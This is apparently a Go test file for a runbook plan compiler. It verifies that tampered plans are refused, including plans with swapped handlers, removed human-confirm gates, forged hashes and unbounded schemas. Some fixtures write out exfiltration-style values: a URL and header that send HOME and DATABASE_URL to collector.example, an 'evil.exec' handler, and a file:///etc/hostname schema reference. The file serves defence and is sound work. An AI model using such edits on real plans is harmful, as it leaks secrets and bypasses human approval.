package compiler

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/runbookdev/runbook/lang"
	"github.com/runbookdev/runbook/registry"
	"github.com/runbookdev/runbook/verbs"
)

// checkVerbs is the daemon's catalogue in these tests: a verb used twice,
// an HTTP call whose params read the environment and which compensates,
// the verb that compensates it (no step calls it), and a gated verb.
const checkVerbs = `
- name: echo
  domain: t
  execution: {kind: sync, handler: core.echo, side_effects: none}
  input_schema:
    properties:
      v: {type: string}
  output_schema:
    properties:
      v: {type: string}
- name: fetch
  domain: t
  execution:
    kind: sync
    handler: http.call
    params:
      url: https://api.example/v1/things
      headers: {Authorization: "Bearer ${env:API_TOKEN}"}
    side_effects: external_call
    compensation: {verb: t.undo, args: {id: "@args.id"}}
  input_schema:
    properties:
      id: {type: string}
- name: undo
  domain: t
  execution: {kind: sync, handler: core.echo, side_effects: internal_db}
  input_schema:
    properties:
      id: {type: string}
- name: sign
  domain: t
  execution: {kind: sync, handler: core.echo, side_effects: external_call, gate: human_confirm}
`

const checkSource = `(t.echo :v "a" :as @first)
(t.echo :v @first.v :as @second)
(t.fetch :id @second.v :as @got)
(t.sign :after @got :as @signed)
`

func checkCatalogue(t testing.TB) *registry.Catalogue {
	t.Helper()
	return catalogueOf(t, "check.yaml", checkVerbs)
}

// catalogueOf is the catalogue of the verb file src, which must load
// without diagnostics.
func catalogueOf(t testing.TB, name, src string) *registry.Catalogue {
	t.Helper()
	defs, diags := verbs.Parse(name, []byte(src))
	require.Empty(t, diags)
	cat, diags := registry.New(defs, registry.NewHandlers())
	require.Empty(t, diags)
	return cat
}

// compiledPlan is checkSource compiled against the catalogue, as rbc
// writes it.
func compiledPlan(t testing.TB, cat *registry.Catalogue) []byte {
	t.Helper()
	plan, diags := compileSource(t, cat, "check.rbk", []byte(checkSource))
	require.False(t, diags.HasErrors(), diags.Error())
	return plan.JSON()
}

// edit changes a plan as JSON and, unless keepHash, gives it the hash of
// its new content: what someone who edits a plan and recomputes the hash
// submits.
func edit(t testing.TB, raw []byte, keepHash bool, change func(plan map[string]any)) []byte {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.UseNumber()
	var doc map[string]any
	require.NoError(t, dec.Decode(&doc))
	change(doc)
	edited, err := json.Marshal(doc)
	require.NoError(t, err)
	if keepHash {
		return edited
	}
	p, err := DecodePlan(edited)
	require.NoError(t, err)
	p.PlanHash = p.Hash()
	return p.JSON()
}

// at walks a plan as JSON: a string is a map key, an int a list index.
func at(doc any, path ...any) map[string]any {
	for _, k := range path {
		switch k := k.(type) {
		case string:
			doc = doc.(map[string]any)[k]
		case int:
			doc = doc.([]any)[k]
		}
	}
	return doc.(map[string]any)
}

// stepNamed finds a step of the plan by key.
func stepNamed(doc map[string]any, key string) map[string]any {
	for _, s := range doc["steps"].([]any) {
		if s.(map[string]any)["key"] == key {
			return s.(map[string]any)
		}
	}
	panic("no step " + key)
}

func codes(ds lang.Diagnostics) []string {
	out := make([]string, len(ds))
	for i, d := range ds {
		out[i] = string(d.Code) + " " + d.Text()
	}
	return out
}

func TestReadPlanAcceptsWhatCompileWrote(t *testing.T) {
	cat := checkCatalogue(t)
	raw := compiledPlan(t, cat)
	plan, diags := ReadPlan("plan.json", raw, cat)
	require.Empty(t, diags)
	require.NotNil(t, plan)
	require.Equal(t, string(raw), string(plan.JSON()))
	require.Empty(t, CheckPlan(plan, cat))
	require.NotNil(t, plan.Verbs["t.undo"].Execution, "the compensation-only verb is frozen with its block")

	// Key order and layout are not content: a plan re-encoded by another
	// JSON library is the same plan.
	var generic any
	require.NoError(t, json.Unmarshal(raw, &generic))
	compact, err := json.Marshal(generic)
	require.NoError(t, err)
	_, diags = ReadPlan("plan.json", compact, cat)
	require.Empty(t, diags)
}

// TestReadPlanRefusesWhatTheCatalogueDoesNotHold edits a compiled plan in
// every way that would change what runs, recomputes the hash each time,
// and requires a refusal that names the verb.
func TestReadPlanRefusesWhatTheCatalogueDoesNotHold(t *testing.T) {
	cat := checkCatalogue(t)
	raw := compiledPlan(t, cat)
	cases := []struct {
		name   string
		change func(doc map[string]any)
		want   []string // each a prefix of one diagnostic, "CODE message"
	}{
		{"another handler", func(doc map[string]any) {
			at(stepNamed(doc, "got"), "execution")["handler"] = "pg.crud"
		}, []string{`E072 step "got" calls t.fetch with an execution block that differs from this daemon's catalogue in handler; the plan was compiled against another catalogue`}},
		{"a handler the daemon lacks", func(doc map[string]any) {
			at(stepNamed(doc, "first"), "execution")["handler"] = "evil.exec"
		}, []string{`E072 step "first" calls t.echo with an execution block that differs from this daemon's catalogue in handler;`}},
		{"params sending the environment elsewhere", func(doc map[string]any) {
			params := at(stepNamed(doc, "got"), "execution", "params")
			params["url"] = "https://collector.example/?home=${env:HOME}"
			params["headers"] = map[string]any{"Authorization": "Bearer ${env:DATABASE_URL}"}
		}, []string{`E072 step "got" calls t.fetch with an execution block that differs from this daemon's catalogue in params.headers, params.url;`}},
		{"params added to a verb without any", func(doc map[string]any) {
			at(stepNamed(doc, "first"), "execution")["params"] = map[string]any{"result": map[string]any{"v": "forged"}}
		}, []string{`E072 step "first" calls t.echo with an execution block that differs from this daemon's catalogue in params;`}},
		{"no side effects, so no receipts", func(doc map[string]any) {
			at(stepNamed(doc, "got"), "execution")["side_effects"] = "none"
		}, []string{`E072 step "got" calls t.fetch with an execution block that differs from this daemon's catalogue in side_effects;`}},
		{"the second step of a verb edited, the first untouched", func(doc map[string]any) {
			at(stepNamed(doc, "second"), "execution")["handler"] = "core.fail"
			at(stepNamed(doc, "second"), "execution")["params"] = map[string]any{"code": "INTERNAL"}
		}, []string{`E072 step "second" calls t.echo with an execution block that differs from this daemon's catalogue in handler, params;`}},
		{"retries and timeouts", func(doc map[string]any) {
			at(stepNamed(doc, "second"), "execution", "retry")["max_attempts"] = json.Number("1000")
			at(stepNamed(doc, "second"), "execution", "timeouts")["run_timeout"] = "P7D"
		}, []string{`E072 step "second" calls t.echo with an execution block that differs from this daemon's catalogue in retry.max_attempts, timeouts.run_timeout;`}},
		{"a step's compensation", func(doc map[string]any) {
			at(stepNamed(doc, "got"), "execution", "compensation")["verb"] = "t.echo"
		}, []string{`E072 step "got" calls t.fetch with an execution block that differs from this daemon's catalogue in compensation.verb;`}},
		{"the compensation verb's frozen block", func(doc map[string]any) {
			at(doc, "verbs", "t.undo", "execution")["handler"] = "http.call"
			at(doc, "verbs", "t.undo", "execution")["params"] = map[string]any{"url": "https://collector.example/"}
		}, []string{`E072 the plan's verbs table holds a definition of t.undo that differs from this daemon's catalogue in execution.handler, execution.params;`}},
		{"a block added to a called verb's entry", func(doc map[string]any) {
			exec := at(stepNamed(doc, "first"), "execution")
			forged := map[string]any{}
			for k, v := range exec {
				forged[k] = v
			}
			forged["handler"] = "core.fail"
			at(doc, "verbs", "t.echo")["execution"] = forged
		}, []string{`E072 the plan's verbs table holds a definition of t.echo that differs from this daemon's catalogue in execution.handler;`}},
		{"an output schema", func(doc map[string]any) {
			at(doc, "verbs", "t.echo")["output_schema"] = map[string]any{"properties": map[string]any{"v": map[string]any{"type": "integer"}}}
		}, []string{`E072 the plan's verbs table holds a definition of t.echo that differs from this daemon's catalogue in output_schema;`}},
		{"an input schema dropped, so arguments go unchecked", func(doc map[string]any) {
			delete(at(doc, "verbs", "t.fetch"), "input_schema")
		}, []string{`E072 the plan's verbs table holds a definition of t.fetch that differs from this daemon's catalogue in input_schema;`}},
		{"a verb's hash", func(doc map[string]any) {
			at(doc, "verbs", "t.sign")["hash"] = "sha256:0000"
			stepNamed(doc, "signed")["verb_hash"] = "sha256:0000"
		}, []string{
			`E072 step "signed" calls t.sign with verb_hash "sha256:0000", but this daemon's definition of t.sign hashes to "sha256:`,
			`E072 the plan's verbs table holds a definition of t.sign that differs from this daemon's catalogue in hash;`,
		}},
		{"a verb the daemon lacks", func(doc map[string]any) {
			stepNamed(doc, "first")["verb"] = "t.ehco"
			at(doc, "verbs")["t.ehco"] = at(doc, "verbs", "t.echo")
		}, []string{`E010 step "first" calls "t.ehco", which this daemon's catalogue does not define (did you mean "t.echo"?); the plan was compiled against another catalogue; compile it again with this daemon's verbs`}},
		{"a verb missing from the verbs table", func(doc map[string]any) {
			delete(at(doc, "verbs"), "t.echo")
		}, []string{`E072 the plan's verbs table lacks t.echo, which step "first" calls`}},
		{"the compensation verb missing from the verbs table", func(doc map[string]any) {
			delete(at(doc, "verbs"), "t.undo")
		}, []string{`E072 the plan's verbs table lacks t.undo, which undoes step "got"`}},
		{"a verb's gate removed", func(doc map[string]any) {
			stepNamed(doc, "signed")["gate"] = "none"
		}, []string{`E072 step "signed" has gate "none", but t.sign declares gate "human_confirm", which no step can remove;`}},
		{"an unknown gate", func(doc map[string]any) {
			stepNamed(doc, "first")["gate"] = "later"
		}, []string{`E041 step "first" has gate "later" (expected none or human_confirm)`}},
		{"a step key twice", func(doc map[string]any) {
			doc["steps"] = append(doc["steps"].([]any), stepNamed(doc, "first"))
		}, []string{`E070 step key "first" is used twice`}},
		{"an edge to nowhere", func(doc map[string]any) {
			doc["edges"] = append(doc["edges"].([]any), map[string]any{"from": "ghost", "to": "first", "kind": "data"})
		}, []string{`E070 edge "ghost" → "first" names a step the plan does not have`}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			plan, diags := ReadPlan("plan.json", edit(t, raw, false, c.change), cat)
			require.Nil(t, plan)
			got := codes(diags)
			require.Len(t, got, len(c.want), strings.Join(got, "\n"))
			for i, want := range c.want {
				require.True(t, strings.HasPrefix(got[i], want), "got  %s\nwant %s", got[i], want)
			}
		})
	}
}

func TestReadPlanChecksVersionAndHash(t *testing.T) {
	cat := checkCatalogue(t)
	raw := compiledPlan(t, cat)

	// Edited, hash left alone: only the hash is wrong.
	tampered := edit(t, raw, true, func(doc map[string]any) { at(stepNamed(doc, "first"), "args")["v"] = "b" })
	_, diags := ReadPlan("plan.json", tampered, cat)
	require.Len(t, diags, 1)
	require.Equal(t, "E071", string(diags[0].Code))
	require.Contains(t, diags[0].Message, "does not match the plan's content")

	// A version this build does not read, with a field it does not know.
	future := edit(t, raw, true, func(doc map[string]any) {
		doc["schema_version"] = json.Number("4")
		doc["frobs"] = []any{}
	})
	_, diags = ReadPlan("plan.json", future, cat)
	require.Equal(t, []string{"E070 plan schema_version 4 is not supported (this daemon reads 1 to 3)"}, codes(diags))

	// A null where a step should be is refused, not a panic.
	withNull := edit(t, raw, true, func(doc map[string]any) { doc["steps"] = append(doc["steps"].([]any), nil) })
	_, diags = ReadPlan("plan.json", withNull, cat)
	require.Equal(t, []string{"E070 step 5 is null, not a step"}, codes(diags))

	_, diags = ReadPlan("plan.json", []byte(`{"schema_version": 1, "steps": [}`), cat)
	require.Len(t, diags, 1)
	require.Equal(t, lang.EPlanUnreadable, diags[0].Code)
	require.Equal(t, `not a readable plan: invalid character '}' looking for beginning of value`, diags[0].Message)
	require.Equal(t, 33, diags[0].Range.Start.Column, "at the bracket")
}

// TestDiagnosticsPointIntoThePlan renders a refusal the way rbd submit
// shows it: at the plan's line for the step.
func TestDiagnosticsPointIntoThePlan(t *testing.T) {
	cat := checkCatalogue(t)
	raw := edit(t, compiledPlan(t, cat), false, func(doc map[string]any) {
		at(stepNamed(doc, "second"), "execution")["side_effects"] = "internal_db"
	})
	_, diags := ReadPlan("plan.json", raw, cat)
	require.Len(t, diags, 1)
	line := 1 + bytes.Count(raw[:bytes.Index(raw, []byte(`{"key":"second"`))], []byte("\n"))
	require.Equal(t, line, diags[0].Range.Start.Line)
	require.Equal(t, 5, diags[0].Range.Start.Column)
	var text strings.Builder
	require.NoError(t, lang.WriteText(&text, diags, lang.Sources{"plan.json": raw}))
	require.True(t, strings.HasPrefix(text.String(), fmt.Sprintf("plan.json:%d:5: error[E072]: step \"second\" calls t.echo", line)), text.String())
	require.Contains(t, text.String(), `|     {"key":"second","verb":"t.echo"`)
}

// TestCheckPlanFoldsRepeatedProblems: a plan of many steps edited alike
// is one diagnostic that counts them, not one per step.
func TestCheckPlanFoldsRepeatedProblems(t *testing.T) {
	cat := checkCatalogue(t)
	var src strings.Builder
	for i := range 300 {
		fmt.Fprintf(&src, "(t.echo :v \"%d\")\n", i)
	}
	plan, diags := compileSource(t, cat, "many.rbk", []byte(src.String()))
	require.False(t, diags.HasErrors())
	for _, s := range plan.Steps {
		s.Execution.Handler = "core.fail"
		s.VerbHash = "sha256:forged"
	}
	plan.PlanHash = plan.Hash()
	got := codes(CheckPlan(plan, cat))
	require.Len(t, got, 2, strings.Join(got, "\n"))
	require.Contains(t, got[0], "differs from this daemon's catalogue in handler")
	require.Contains(t, got[0], "; 299 more steps have the same problem")
	require.Contains(t, got[1], `verb_hash "sha256:forged"`)
	require.Contains(t, got[1], "; 299 more steps have the same problem")

	// Each step edited its own way: reported up to a bound, then counted.
	for i, s := range plan.Steps {
		s.Execution.Params = map[string]any{"result": map[string]any{"n": json.Number(fmt.Sprint(i))}}
	}
	plan.PlanHash = plan.Hash()
	diags = CheckPlan(plan, cat)
	require.Len(t, diags, maxPlanDiagnostics+1)
	require.Equal(t, "281 more problems are not shown", diags[len(diags)-1].Message)
}

// TestPlanHashCoversEachStepsOwnBlock: two steps of one verb, the second
// one's block edited. The hash changes, and the plan read back hashes,
// stores and runs the block each step carries.
func TestPlanHashCoversEachStepsOwnBlock(t *testing.T) {
	cat := checkCatalogue(t)
	raw := compiledPlan(t, cat)
	original, err := ParsePlan(raw)
	require.NoError(t, err)

	edited := edit(t, raw, true, func(doc map[string]any) {
		at(stepNamed(doc, "second"), "execution")["side_effects"] = "internal_db"
	})
	_, err = ParsePlan(edited)
	require.ErrorContains(t, err, "does not match the plan's content", "the second step's block is hashed")

	p, err := DecodePlan(edited)
	require.NoError(t, err)
	require.NotEqual(t, original.PlanHash, p.Hash())
	p.PlanHash = p.Hash()
	back, err := ParsePlan(p.JSON())
	require.NoError(t, err)
	require.Equal(t, "none", string(back.Step("first").Execution.SideEffects))
	require.Equal(t, "internal_db", string(back.Step("second").Execution.SideEffects))
	require.Contains(t, string(back.JSON()), `{"key":"second","verb":"t.echo","args":{"v":{"$ref":"first.v"}},"gate":"none","on_failure":"abort","execution":{"kind":"sync","handler":"core.echo","side_effects":"internal_db"`)

	// In memory too: editing a step's block, not the first of its verb,
	// changes the hash.
	compiled, diags := compileSource(t, cat, "check.rbk", []byte(checkSource))
	require.False(t, diags.HasErrors())
	before := compiled.Hash()
	compiled.Step("second").Execution.Retry.MaxAttempts = 9
	require.NotEqual(t, before, compiled.Hash())

	// Compiling the same source twice gives the same hash.
	again, _ := compileSource(t, cat, "check.rbk", []byte(checkSource))
	require.Equal(t, before, again.PlanHash)
}

// TestDecodingForeignSchemasIsBounded: a plan's schemas are compiled as
// it is decoded, before the check refuses it. They never make the daemon
// read a file, and refused plans cannot grow the schema cache without end.
func TestDecodingForeignSchemasIsBounded(t *testing.T) {
	cat := checkCatalogue(t)
	raw := edit(t, compiledPlan(t, cat), true, func(doc map[string]any) {
		object := at(doc, "verbs", "t.echo", "input_schema", "properties")
		object["v"] = map[string]any{"$ref": "file:///etc/hostname"}
	})
	_, diags := ReadPlan("plan.json", raw, cat)
	require.Len(t, diags, 1)
	require.Equal(t, "E070", string(diags[0].Code))
	require.Contains(t, diags[0].Message, "file:///etc/hostname is outside the schema")

	for i := range maxCachedSchemas + 50 {
		plan := fmt.Sprintf(`{"schema_version":1,"plan_hash":"","sources":[],"inputs":[],"steps":[],"edges":[],
			"verbs":{"x.y":{"hash":"h","input_schema":{"properties":{"p%d":{}}}}}}`, i)
		_, err := DecodePlan([]byte(plan))
		require.NoError(t, err)
	}
	require.LessOrEqual(t, schemaCache.Len(), maxCachedSchemas)
}

// TestReadPlanChecksEffects: effects are not hashed, being derived, so the
// check derives them again; a plan from before they existed still reads.
func TestReadPlanChecksEffects(t *testing.T) {
	cat := checkCatalogue(t)
	raw := compiledPlan(t, cat)
	p, diags := ReadPlan("plan.json", raw, cat)
	require.Empty(t, diags)
	require.Equal(t, []Effect{
		{Step: "got", Verb: "t.fetch", SideEffects: "external_call", Risk: "low", Gate: "none", Target: "api.example/v1/things"},
		{Step: "signed", Verb: "t.sign", SideEffects: "external_call", Risk: "low", Gate: "human_confirm", GatedBy: "signed"},
	}, p.Effects)

	old := edit(t, raw, false, func(doc map[string]any) { delete(doc, "effects") })
	p, diags = ReadPlan("plan.json", old, cat)
	require.Empty(t, diags, "a plan compiled before effects existed")
	require.Nil(t, p.Effects)
	require.NotContains(t, string(p.JSON()), `"effects"`, "and it is written back without them")

	hidden := edit(t, raw, false, func(doc map[string]any) { doc["effects"] = doc["effects"].([]any)[1:] })
	_, diags = ReadPlan("plan.json", hidden, cat)
	require.Equal(t, []string{`E070 the plan's effects do not match its steps (the entry for step "signed" differs): the plan was edited after it was compiled`}, codes(diags))

	gated := edit(t, raw, false, func(doc map[string]any) {
		at(doc, "effects", 0)["gate"] = "human_confirm"
		at(doc, "effects", 0)["gated_by"] = "got"
	})
	_, diags = ReadPlan("plan.json", gated, cat)
	require.Equal(t, []string{`E070 the plan's effects do not match its steps (the entry for step "got" differs): the plan was edited after it was compiled`}, codes(diags))

	risky := edit(t, raw, false, func(doc map[string]any) { at(doc, "verbs", "t.fetch")["risk"] = "low" })
	_, diags = ReadPlan("plan.json", risky, cat)
	require.Len(t, diags, 1)
	require.Contains(t, diags[0].Message, "differs from this daemon's catalogue in risk")
}

// TestReadPlanKeepsAHighRiskGate: a high-risk verb's steps always wait at
// a gate (docs/design/semantics.md section 7), even when its block declares none, so a
// submitted plan cannot drop it.
func TestReadPlanKeepsAHighRiskGate(t *testing.T) {
	cat := catalogueOf(t, "risk.yaml", `
- name: wire
  domain: t
  risk: high
  execution: {kind: sync, handler: core.echo, side_effects: external_call, level: guarded}
`)
	plan, diags := compileSource(t, cat, "risk.rbk", []byte(`(t.wire :as @w)`))
	require.False(t, diags.HasErrors(), diags.Error())
	require.Equal(t, "human_confirm", string(plan.Step("w").Gate))
	_, diags = ReadPlan("plan.json", plan.JSON(), cat)
	require.Empty(t, diags)

	ungated := edit(t, plan.JSON(), false, func(doc map[string]any) { stepNamed(doc, "w")["gate"] = "none" })
	_, diags = ReadPlan("plan.json", ungated, cat)
	require.Len(t, diags, 1)
	require.Equal(t, lang.EPlanCatalogue, diags[0].Code)
	require.Contains(t, diags[0].Message, `step "w" has gate "none", but t.wire declares gate "human_confirm"`)
}
